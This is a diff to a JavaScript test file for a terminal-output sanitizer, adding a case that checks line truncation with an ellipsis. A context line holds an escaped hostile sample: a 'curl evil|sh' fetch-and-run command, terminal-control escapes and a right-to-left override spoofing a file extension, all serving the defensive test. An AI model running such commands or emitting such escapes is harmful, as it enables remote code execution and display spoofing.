@@ -55,6 +55,11 @@ describe('sanitizeLine', () => {
     assert.match(line, /\\x1b\]0;owned\\x07\\x1b\[2J {2}RUN: curl evil\|sh \\x9b31m red \\u202eexe\.txt/)
   })
 
+  it('a line exactly maxChars long is kept whole; one more character and it is cut with …', () => {
+    assert.equal(sanitizeLine('abcd', 4), 'abcd')
+    assert.equal(sanitizeLine('abcde', 4), 'abc…')
+  })
+
   it('cuts after escaping, so a cut never leaves half an escape live', () => {
     const line = sanitizeLine(`${'x'.repeat(9)}\u001b[31m`, 12)
     assert.equal(line.length, 12)
